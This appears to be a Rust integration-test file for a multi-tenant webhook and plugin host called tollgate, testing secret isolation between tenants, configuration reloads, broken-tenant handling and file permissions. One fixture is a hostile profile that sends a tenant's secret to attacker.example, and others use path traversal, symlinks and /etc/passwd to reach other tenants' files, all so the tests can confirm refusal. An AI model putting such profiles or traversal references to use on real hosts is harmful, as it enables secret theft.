//! Configuration that cannot go wrong: what a tenant's file reaches, whose mistake is whose, and which reload is the last.

use std::fs;
use std::io::Write as _;
use std::os::unix::fs::{MetadataExt as _, OpenOptionsExt as _, PermissionsExt as _};
use std::process::Command;
use std::time::Duration;

use serde_json::{Value, json};
use tollgate_tests::events::{plain, redeemed, signer};
use tollgate_tests::json::{holds, list, says, text};
use tollgate_tests::plugins_dir;
use tollgate_tests::stage::{CASHBACK, SOURCES, Setup, Stage, books_at, tollgate_line, tollgate_with, wait_until};

/// A tenant with a source whose secret, or other reference, is `reference`.
fn shop_with(reference: &str) -> String {
    format!("[sources.shop]\nprovider = \"generic-hmac\"\nsecrets = [{{ id = \"a\", value = {reference} }}]\n")
}

/// A profile of somebody's own that sends two secrets of the tenant's to a host of the author's choice.
const SENDS_SECRETS: &str = r#"
name = "evil"
version = 1
title = "Evil"
[[parameter]]
name = "a"
what = "x"
secret = true
[jws]
header = "x-jws"
body_claim = "d"
[[jws.scheme]]
name = "ES256"
algorithm = "ecdsa-p256-sha256-raw"
key = { decode = "jwk" }
[fetch]
kind = "jwk"
url = "https://attacker.example/k"
hosts = ["attacker.example"]
path_prefix = "/k"
body = '{"a":"{config:a}","k":"{key-id}"}'
pointer = "/key"
[time]
from = "claim:iat"
format = "unix-seconds"
tolerance_s = 300
[event]
id = "/id"
type = "/type"
"#;

/// Whatever a tenant's file refers to that is not the tenant's: the check refuses it, shows nothing of it, and no host runs with it.
#[test]
fn a_tenants_file_reaches_nothing_of_the_operators_or_of_another_tenant() {
    let hidden = "hidden-content-of-somebody-else";
    let variables = [
        ("OPTOK", "operator-token-0123456789"),
        ("GLOBEX_LEDGER", "whsec_MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MDE="),
        ("AWS_SECRET_ACCESS_KEY", hidden),
        ("MALLORY_KEY", "mallory-has-a-key-of-its-own"),
    ];
    let mut stage = Setup::default()
        .tenancy("")
        .secret("globex/key", hidden)
        .secret("mallory/key", "mallory-has-a-key-of-its-own")
        .tenant("mallory", &shop_with("{ env = \"MALLORY_KEY\" }"))
        .tenant("globex", "")
        .set();
    // The stage writes the operator's file when a host starts; here no host does.
    let _ = stage.try_start();
    stage.kill();
    let operator = fs::read_to_string(stage.config()).expect("a file");
    fs::write(
        stage.config(),
        operator.replace("{ file = \"operator.token\" }", "{ env = \"OPTOK\" }"),
    )
    .expect("a file");
    stage.write("outside", hidden);
    stage.write("profiles/evil.toml", SENDS_SECRETS);
    stage.write("profiles/globex/broken.toml", &format!("name = \"x\"\n{hidden} = 1\n"));
    std::os::unix::fs::symlink(stage.path("outside"), stage.path("secrets/mallory/link")).expect("a link");
    let outside = stage.path("outside").display().to_string();
    let check = |tenant: &str| {
        stage.write("tenants/mallory.toml", tenant);
        let config = stage.config().display().to_string();
        let json = tollgate_with(&variables, &["check", "--json", "--config", &config], b"");
        let shown = tollgate_with(&variables, &["check", "--config", &config], b"");
        (
            json.code,
            format!("{}{}{}{}", json.stdout, json.stderr, shown.stdout, shown.stderr),
        )
    };
    let own = [
        shop_with("{ env = \"MALLORY_KEY\" }"),
        shop_with("{ file = \"../secrets/mallory/key\" }"),
    ];
    for tenant in own {
        let (code, said) = check(&tenant);
        assert_eq!(code, 0, "{tenant}: {said}");
    }
    let profile = |file: &str| {
        format!(
            "[sources.e]\nprofile = {{ file = \"{file}\" }}\n\
             [sources.e.parameters]\na = {{ env = \"MALLORY_KEY\" }}\n"
        )
    };
    let destination =
        |reference: &str| format!("[destinations.d]\nurl = \"https://d.example/\"\nsecrets = [{reference}]\n");
    // The tests of `reach` in tollgate-server have every way to name something; here is one of each kind.
    let others = [
        (shop_with("{ env = \"OPTOK\" }"), "is not one of the tenant `mallory`"),
        (
            destination("{ env = \"GLOBEX_LEDGER\" }"),
            "is not one of the tenant `mallory`",
        ),
        (shop_with("{ file = \"../secrets/globex/key\" }"), "out of the reach"),
        (shop_with("{ file = \"../secrets/mallory/link\" }"), "out of the reach"),
        (destination(&format!("{{ file = \"{outside}\" }}")), "out of the reach"),
        (profile("/etc/passwd"), "out of the reach"),
        (profile("../profiles/globex/broken.toml"), "out of the reach"),
        (profile("../profiles/evil.toml"), "which the operator does not list"),
    ];
    for (tenant, expect) in others {
        let (code, said) = check(&tenant);
        assert_eq!(code, 1, "{tenant}: {said}");
        assert!(said.contains(expect), "{tenant}: {said}");
        for secret in [hidden, "root:", "operator-token-0123456789", "MDEyMzQ1Njc4"] {
            assert!(!said.contains(secret), "{tenant}: {said}");
        }
    }
}

/// The amount of the one credit that an event of 500.00 INR came to.
fn credit(stage: &Stage, event: &str) -> String {
    let answer = stage.post(
        "shop",
        &signer("shop").sign("", redeemed(event, &format!("r_{event}"), "completed")),
    );
    assert_eq!(answer.status, 202, "{}", answer.word());
    let trace = stage.finished(&answer.receipt());
    trace["jobs"][0]["runs"][0]["actions"][0]["summary"]
        .as_str()
        .unwrap_or_else(|| panic!("{trace:#}"))
        .to_owned()
}

#[test]
fn reloads_that_overlap_end_with_the_newest_and_never_with_the_slowest() {
    let mut stage = Setup::acme(CASHBACK).plugin("cashback").start();
    let of_rate = |rate: &str| {
        format!(
            "{SOURCES}{}",
            CASHBACK.replace("rate_bps = 1000", &format!("rate_bps = {rate}"))
        )
    };
    let ten_percent = credit(&stage, "evt_before");

    // A plugin's file that does not come to its end makes a reload as slow as a test wants it.
    let slow = stage.path("slow.wasm");
    assert!(
        Command::new("mkfifo")
            .arg(&slow)
            .status()
            .is_ok_and(|status| status.success())
    );
    stage.write("tenants/acme.toml", &of_rate("5000"));
    stage.offer("slow", &slow);
    stage.signal("HUP");
    // The host reads the pipe: it has read the tenants' files before, and now it waits.
    let mut pipe = wait_until("the slow reload is under way", || {
        fs::OpenOptions::new()
            .write(true)
            .custom_flags(rustix_nonblock())
            .open(&slow)
            .ok()
    });
    stage.write("tenants/acme.toml", &of_rate("100"));
    stage.offer("slow", &plugins_dir().join("fraud.wasm"));
    stage.reload();
    let one_percent = credit(&stage, "evt_newest");
    assert_ne!(one_percent, ten_percent);

    let component = fs::read(plugins_dir().join("fraud.wasm")).expect("a component");
    let mut rest = component.as_slice();
    while !rest.is_empty() {
        match pipe.write(rest) {
            Ok(written) => rest = &rest[written..],
            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {
                std::thread::sleep(Duration::from_millis(2))
            }
            Err(error) => panic!("{error}"),
        }
    }
    drop(pipe);
    wait_until("the slow reload has ended", || {
        (!stage
            .log_with("a reload ended after a later one and is dropped")
            .is_empty())
        .then_some(())
    });
    assert_eq!(
        credit(&stage, "evt_after").split(' ').nth(1),
        one_percent.split(' ').nth(1),
        "the slowest won"
    );
    assert_eq!(stage.log_with("configuration reloaded").len(), 1);
}

/// `O_NONBLOCK`: a pipe that nobody reads is not waited for.
fn rustix_nonblock() -> i32 {
    0o4000
}

fn metric_of(stage: &Stage, name: &str, tenant: &str) -> u64 {
    stage.metric(&format!("tollgate_tenant_config_{name}{{tenant=\"{tenant}\"}}"))
}

#[test]
fn one_tenants_typo_stops_neither_the_others_nor_a_start() {
    let mut stage = Setup::acme(CASHBACK)
        .tenant("globex", &format!("{SOURCES}{CASHBACK}"))
        .plugin("cashback")
        .start();
    let good = fs::read_to_string(stage.path("tenants/acme.toml")).expect("a file");
    let post = |stage: &Stage, tenant: &str, event: &str| {
        stage
            .post_to(tenant, "shop", &signer("shop").sign("", plain("note", event)))
            .status
    };
    for (number, spoilt) in [
        "[[[\n".to_owned(),
        good.replace("cashback\"", "cash-back\""),
        "\u{0}".to_owned(),
    ]
    .iter()
    .enumerate()
    {
        // The others' changes are taken; the tenant goes on as it was.
        stage.write("tenants/acme.toml", spoilt);
        stage.write(
            "tenants/globex.toml",
            &format!("{SOURCES}[routes.r{number}]\nplugin = \"cashback\"\nconfig = {{ rate_bps = 100 }}\n"),
        );
        stage.reload();
        assert_eq!(metric_of(&stage, "stale", "acme"), 1, "{spoilt}");
        assert_eq!(metric_of(&stage, "stale", "globex"), 0);
        assert_eq!(post(&stage, "acme", &format!("evt_{number}")), 202);
        let said = stage.log_with("the tenant keeps its last good configuration");
        assert!(
            said.iter()
                .any(|line| line.contains("\"tenant\":\"acme\"") && line.contains("since")),
            "{said:?}"
        );
        let routes = stage.ask(&["route", "list", "globex"]).json();
        assert_eq!(routes[0]["route"], format!("r{number}"), "{routes}");
        let checked = stage.ask(&["check"]);
        assert_eq!(checked.code, 1);
        let broken = &checked.json()["broken_tenants"][0];
        assert_eq!(
            (&broken["tenant"], &broken["runs_last_good"]),
            (&json!("acme"), &json!(true)),
            "{checked:?}"
        );
        assert!(broken["since"].is_string() && broken["of"].is_string(), "{checked:?}");

        // And over a start, whatever became of the process.
        stage.kill();
        stage.start();
        assert_eq!(metric_of(&stage, "stale", "acme"), 1);
        assert_eq!(stage.trace(&format!("evt_{number}"))["receipt"]["tenant"], "acme");
        let routes = stage.ask(&["route", "list", "acme"]).json();
        assert_eq!(routes[0]["route"], "cashback", "{routes}");
    }
    // A tenant that is new and wrong is left out of a reload; its provider is asked to come again.
    stage.write("tenants/initech.toml", "[[[\n");
    stage.reload();
    assert_eq!(metric_of(&stage, "left_out", "initech"), 1);
    assert_eq!(post(&stage, "initech", "evt_new"), 503);
    assert_eq!(post(&stage, "hooli", "evt_new"), 404);
    // Nothing good is known of it: a start has to be told.
    stage.kill();
    let refused = stage.try_start().expect_err("a start without a word");
    says(&refused, &["--without-broken-tenants", "initech.toml"]);
    assert!(!refused.contains("acme.toml"), "acme has a good one: {refused}");
    stage.serve_with(&["--without-broken-tenants"]);
    stage.start();
    assert_eq!(post(&stage, "initech", "evt_new"), 503);
    assert_eq!(post(&stage, "globex", "evt_end"), 202);

    stage.write("tenants/acme.toml", &good);
    fs::remove_file(stage.path("tenants/initech.toml")).expect("a file");
    stage.reload();
    assert_eq!(
        metric_of(&stage, "stale", "acme") + metric_of(&stage, "left_out", "initech"),
        0
    );
    // Who is gone is not kept.
    fs::remove_file(stage.path("tenants/globex.toml")).expect("a file");
    stage.reload();
    let kept: Vec<_> = fs::read_dir(stage.path("last-good.tollgate.db"))
        .expect("a folder")
        .map(|entry| entry.expect("an entry").file_name().into_string().expect("UTF-8"))
        .collect();
    assert_eq!(kept, ["acme.json"]);
}

/// A route that was set by API and does not fit what its tenant's file says now holds up that tenant, and nobody else.
#[test]
fn a_route_set_by_api_that_does_not_fit_any_more_holds_up_its_tenant_alone() {
    let books = books_at("books", "https://books.example/");
    let stage = Setup::acme(&format!("{CASHBACK}{books}"))
        .tenant("globex", SOURCES)
        .plugin("cashback")
        .start();
    stage.write(
        "bonus.toml",
        "plugin = \"cashback\"\ndestinations = [\"books\"]\nconfig = { rate_bps = 100 }\n",
    );
    let file = stage.path("bonus.toml").display().to_string();
    stage
        .ask(&["route", "set", "acme", "bonus", "--file", &file, "--why", "a test"])
        .ok();
    stage.write("tenants/acme.toml", &format!("{SOURCES}{CASHBACK}"));
    stage.write("tenants/globex.toml", &format!("{SOURCES}{CASHBACK}"));
    stage.reload();
    assert_eq!(metric_of(&stage, "stale", "acme"), 1);
    let names = |tenant: &str| {
        let routes = stage.ask(&["route", "list", tenant]).json();
        routes
            .as_array()
            .into_iter()
            .flatten()
            .map(|route| route["route"].clone())
            .collect::<Vec<Value>>()
    };
    assert_eq!(names("acme"), ["cashback", "bonus"]);
    assert_eq!(names("globex"), ["cashback"]);
}

#[test]
fn the_files_of_a_store_are_their_owners_alone() {
    let mut stage = Setup::acme(CASHBACK)
        .native()
        .plugin("cashback")
        .worker("cache = \"own-cache\"")
        .set();
    // As generous as a service manager may be, and a store that an older host left open to others.
    stage.wrap(&["sh", "-c", "umask 000; exec \"$0\" \"$@\""]);
    let modes = |stage: &Stage| {
        let mut open = Vec::new();
        for entry in fs::read_dir(stage.path(".")).expect("a folder") {
            let entry = entry.expect("an entry");
            let name = entry.file_name().into_string().expect("UTF-8");
            if name.contains("tollgate.db") {
                open.push((name, entry.metadata().expect("metadata").mode() & 0o777));
            }
        }
        open.sort();
        open
    };
    stage.start();
    credit(&stage, "evt_1");
    let found = modes(&stage);
    for name in [
        "tollgate.db",
        "tollgate.db-log-0000000000000000",
        "tollgate.db-key",
        "last-good.tollgate.db",
        "tollgate.db-shm",
        "tollgate.db-wal",
        "tollgate.db.lock",
    ] {
        let expected = if name == "last-good.tollgate.db" { 0o700 } else { 0o600 };
        assert!(found.contains(&(name.to_owned(), expected)), "{name}: {found:?}");
    }
    assert!(found.iter().all(|(_, mode)| mode & 0o077 == 0), "{found:?}");
    stage.kill();
    for (name, _) in &found {
        fs::set_permissions(stage.path(name), fs::Permissions::from_mode(0o777)).expect("a mode");
    }
    stage.start();
    credit(&stage, "evt_2");
    let found = modes(&stage);
    assert!(found.iter().all(|(_, mode)| mode & 0o077 == 0), "{found:?}");
    let copy = stage.path("copy.db").display().to_string();
    let from = stage.path("tollgate.db").display().to_string();
    stage.stop();
    let to = format!("spin:{copy}");
    tollgate_with(&[], &["copy", "--from", &from, "--to", &to, "--json"], b"").ok();
    assert_eq!(fs::metadata(&copy).expect("a copy").mode() & 0o777, 0o600);
}

#[test]
fn check_finds_what_would_go_wrong_later() {
    let mut stage = Setup::default().native().plugin("cashback").set();
    let _ = stage.try_start();
    stage.kill();
    let warnings = |stage: &Stage| {
        let checked = stage.ask(&["check"]).ok();
        let json = checked.json();
        let found = json["warnings"].as_array().into_iter().flatten();
        found
            .map(|warning| warning["message"].as_str().unwrap_or_default().to_owned())
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert!(warnings(&stage).contains("there are no tenants"));
    let tenant = format!("{SOURCES}{CASHBACK}");
    stage.write("tenants/acme.toml", &tenant);
    assert_eq!(warnings(&stage), "");
    stage.write(
        "tenants/acme.toml",
        &tenant
            .replace("id = \"shop-1\"", "id = \"shop-1\", not_after = 2026-01-01T00:00:00Z")
            .replace("grants = [", "grants = [{ kind = \"reserve-stock\" }, "),
    );
    let found = warnings(&stage);
    assert!(found.contains("the secret `shop-1` expired at 2026-01-01"), "{found}");
    says(
        &found,
        &["`reserve-stock` is granted, which the plugin `cashback` never asks for"],
    );

    // A second tenant with the same secrets, on a host whose operator trusts the files.
    let operator = fs::read_to_string(stage.config()).expect("a file");
    fs::write(
        stage.config(),
        operator.replace("[tenants]\n", "[tenants]\ntrust_files = true\n"),
    )
    .expect("a file");
    stage.write("tenants/acme.toml", &tenant);
    stage.write("tenants/globex.toml", &tenant);
    let found = warnings(&stage);
    says(
        &found,
        &["tenants share one secret: acme.sources.shop, globex.sources.shop"],
    );

    let operator = fs::read_to_string(stage.config()).expect("a file");
    fs::write(
        stage.config(),
        operator.replace("path = \"tollgate.db\"", "path = \"nowhere/tollgate.db\""),
    )
    .expect("a file");
    let checked = stage.ask(&["check"]);
    assert_eq!(checked.code, 1);
    says(
        text(&checked.json()["problems"][0], "message"),
        &["nowhere does not exist"],
    );
}

/// A misspelled key of a plugin's configuration is found before it takes effect, at its line, and harms its tenant alone.
#[test]
fn w7_a_configuration_that_its_plugins_schema_refuses_never_takes_effect() {
    let stage = Setup::acme(CASHBACK).plugin("cashback").start();
    let good = format!("{SOURCES}{CASHBACK}");
    // tollgate-core has what a schema can say; here is where it is shown.
    let wrong = good.replace("rate_bps = 1000", "rate_bsp = 1000");
    stage.write("tenants/acme.toml", &wrong);
    let checked = stage.ask(&["check"]);
    assert_eq!(checked.code, 1, "{checked:?}");
    let problems = list(&checked.json()["problems"]);
    let message = "`rate_bsp` is no key of this configuration";
    let problem = problems
        .iter()
        .find(|problem| problem["message"] == message)
        .expect(message);
    let line = wrong
        .lines()
        .position(|line| line.contains("rate_bsp"))
        .expect("the line")
        + 1;
    holds(problem, &json!({ "line": line, "help": "did you mean `rate_bps`?" }));
    // A reload keeps the tenant as it runs, and leaves nobody else behind.
    stage.write("tenants/globex.toml", &good.replace("shop-1", "globex-1"));
    stage.reload();
    wait_until("the tenant's file is known to be wrong", || {
        (metric_of(&stage, "stale", "acme") == 1).then_some(())
    });
    let answer = stage.redeem(1);
    assert_eq!(answer.status, 202, "{answer:?}");
    stage.quiet();
    assert_eq!(
        stage.counts()["actions"],
        1,
        "acme goes on with its last good configuration"
    );
}

#[test]
fn a_token_is_of_a_tenant_that_is_there() {
    let mut stage = Setup::acme("").set();
    let _ = stage.try_start();
    let make =
        |stage: &Stage, tenant: &str| stage.ask(&["token", "create", "ci", "--role", "viewer", "--tenant", tenant]);
    for running in [true, false] {
        let refused = make(&stage, "acmee");
        assert_eq!(refused.code, 1, "running: {running}: {refused:?}");
        says(&refused.stderr, &["there is no tenant `acmee`; there are: acme"]);
        assert_eq!(make(&stage, "acme").code, 0);
        stage.kill();
    }
}

#[test]
fn a_tenants_file_may_name_a_plugin_that_was_pushed() {
    let stage = Setup::acme("").plugin("fraud").start();
    let tenant = format!("{SOURCES}{CASHBACK}");
    stage.write("tenants/acme.toml", &tenant);
    stage.reload();
    assert_eq!(metric_of(&stage, "stale", "acme"), 1, "nobody has such a plugin");
    let file = plugins_dir().join("cashback.wasm").display().to_string();
    let pushed = stage.ask(&["plugin", "push", &file, "--tenant", "acme"]).ok();
    assert_eq!(stage.ask(&["check"]).code, 1, "vetted is not published");
    let digest = pushed.json()["digest"].as_str().expect("a digest").to_owned();
    stage
        .ask(&["plugin", "publish", &digest, "--tenant", "acme", "--why", "a test"])
        .ok();
    stage.ask(&["check"]).ok();
    stage.reload();
    assert_eq!(metric_of(&stage, "stale", "acme"), 0);
    assert!(
        credit(&stage, "evt_1").contains("credit"),
        "the newest that is published runs"
    );
    let bound = |stage: &Stage| stage.ask(&["route", "list", "acme"]).json()[0]["binding"]["active"].clone();
    assert_eq!(bound(&stage), json!(digest));
    // What is bound stays bound, whatever comes.
    stage.reload();
    assert_eq!(bound(&stage), json!(digest));
}

#[test]
fn a_request_that_is_only_shown_is_json_where_json_is_asked_for() {
    let stage = Setup::default().secret("one", "0123456789").set();
    let url = "http://127.0.0.1:9/in/acme/shop";
    let secret = stage.path("secrets/one");
    let line = format!(
        "send --url {url} --secret-file {} --sample reward-redeemed --dry-run --json",
        secret.display()
    );
    let shown = tollgate_line(&line, b"").ok().json();
    holds(&shown, &json!({ "method": "POST", "url": url }));
    assert!(
        list(&shown["headers"])
            .iter()
            .any(|header| header["name"] == "x-signature"),
        "{shown}"
    );
    let body = shown["body"].as_str().expect("a body");
    assert!(serde_json::from_str::<Value>(body).is_ok(), "{shown}");
}

/// Where people read a digest, its version stands beside it.
#[test]
fn a_digest_is_shown_with_its_version() {
    let stage = Setup::acme(CASHBACK).plugin("cashback").start();
    let config = stage.config().display().to_string();
    let shown = |arguments: &[&str]| {
        let all = [arguments, &["--config", &config]].concat();
        tollgate_with(&[], &all, b"").stdout
    };
    let json = stage.ask(&["plugin", "list"]).json();
    let (digest, version) = (
        json[0]["digest"].as_str().expect("a digest"),
        json[0]["version"].as_str().expect("a version"),
    );
    credit(&stage, "evt_1");
    let run = stage.trace("evt_1")["jobs"][0]["runs"][0].clone();
    holds(&run, &json!({ "plugin": "cashback", "version": version }));
    assert!(
        shown(&["trace", "evt_1"]).contains(&format!(" cashback@{version} ")),
        "{}",
        shown(&["trace", "evt_1"])
    );
    let beside = format!("{digest} (cashback@{version})");
    for arguments in [
        &["route", "list", "--tenant", "acme"][..],
        &["route", "history", "acme", "cashback"],
    ] {
        let said = shown(arguments);
        assert!(said.contains(&beside), "{arguments:?}: {said}");
    }
}

/// What is good today may be gone tomorrow without an edit: the tenant goes on with what the host has, and only a start needs it again.
#[test]
fn a_tenant_whose_secret_is_gone_goes_on_as_it_runs() {
    let mut stage = Setup::acme(CASHBACK).plugin("cashback").start();
    fs::remove_file(stage.path("secrets/shop")).expect("a file");
    stage.reload();
    assert_eq!(metric_of(&stage, "stale", "acme"), 1);
    credit(&stage, "evt_1");
    stage.kill();
    let refused = stage.try_start().expect_err("a start without the secret");
    assert!(refused.contains("secrets/shop"), "{refused}");
}

/// One file serves both hosts: each key builds for Spin, or is refused there with the key, its line and the reason, by every command that
/// reads it.
#[test]
fn r2_a_native_tenants_file_builds_for_spin_or_is_refused_with_key_line_and_reason() {
    let folder = tempfile::tempdir().expect("a folder");
    let write = |name: &str, text: &str| {
        let path = folder.path().join(name);
        fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        fs::write(&path, text).expect("a file");
        path.display().to_string()
    };
    let cashback = plugins_dir().join("cashback.wasm").display().to_string();
    let config = write("tollgate.toml", &format!("[plugins.cashback]\npath = \"{cashback}\"\n"));
    let manifest = write(
        "spin.toml",
        "[component.ingest]\nfiles = [{ source = \"tenants/built\", destination = \"/tenants\" }]\n\
         [component.worker]\nfiles = [{ source = \"tenants/built\", destination = \"/tenants\" }]\n",
    );
    let (secret, whsec) = (
        "0123456789abcdef0123456789abcdef",
        "whsec_MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MDE=",
    );
    let variables = [
        ("ACME_SECRET", secret),
        ("SPIN_VARIABLE_ACME_SECRET", secret),
        ("ACME_BOOKS", whsec),
        ("SPIN_VARIABLE_ACME_BOOKS", whsec),
    ];
    let tenant = "[sources.shop]\nprovider = \"generic-hmac\"\nsecrets = [{ id = \"a\", value = { env = \"ACME_SECRET\" } }]\n\
                  [destinations.books]\nurl = \"https://books.example/\"\nsecrets = [{ env = \"ACME_BOOKS\" }]\n\
                  [routes.cashback]\nplugin = \"cashback\"\n\
                  config = { rate_bps = 500, cap_minor_units = 2000, currency = \"USD\", amount = \"/a\" }\n";
    // `every_key_is_taken_or_refused_by_each_host` of tollgate-tenants has every key; here is one of each kind.
    for (place, line, on_both, on_spin) in [
        ("sources.shop", "bearer = [{ env = \"ACME_SECRET\" }]", "", ""),
        (
            "sources.shop",
            "allow_networks = [\"203.0.113.0/24\"]",
            "",
            "`allow_networks` cannot be held on Spin",
        ),
        (
            "routes.cashback",
            "limits = { state_keys = 3 }",
            "",
            "`state_keys` cannot be held on Spin",
        ),
        (
            "routes.cashback",
            "sources = [\"nobody\"]",
            "there is no source `nobody`",
            "",
        ),
        (
            "",
            "[promotion]\nrequire_signed = true",
            "",
            "`promotion` cannot be held on Spin",
        ),
    ] {
        let header = format!("[{place}]\n");
        let text = match place {
            "" => format!("{tenant}{line}\n"),
            _ => tenant.replace(&header, &format!("{header}{line}\n")),
        };
        let at = text.find(line).map_or(1, |at| text[..at].matches('\n').count() + 1);
        write("tenants/acme.toml", &text);
        let ask = |arguments: &[&str]| tollgate_with(&variables, arguments, b"");
        let native = ask(&["check", "--json", "--config", &config]);
        assert_eq!(native.code == 0, on_both.is_empty(), "{line}: {native:?}");
        assert!(native.stdout.contains(on_both), "{line}: {native:?}");
        let expect = [on_both, on_spin].concat();
        let built = ask(&["spin", "tenants", "--json", "--manifest", &manifest]);
        assert_eq!(built.code == 0, expect.is_empty(), "{line}: {built:?}");
        let checked = ask(&["spin", "check", "--json", "--manifest", &manifest]);
        let problems = checked.json()["problems"].clone();
        let problems: Vec<_> = problems
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(Value::as_str)
            .collect();
        let of_tenant: Vec<_> = problems
            .iter()
            .filter(|problem| problem.contains("acme.toml"))
            .collect();
        if expect.is_empty() {
            assert_eq!(of_tenant, Vec::<&&str>::new(), "{line}");
            continue;
        }
        let found = built.json()["problems"][0].clone();
        assert!(
            found["message"].as_str().is_some_and(|said| said.contains(&expect)),
            "{line}: {built:?}"
        );
        assert_eq!(found["line"], at, "{line}: {built:?}");
        assert!(
            matches!(of_tenant[..], [problem] if problem.contains(&expect) && problem.contains(&format!("acme.toml:{at}: "))),
            "{line}: {of_tenant:?}"
        );
    }
}
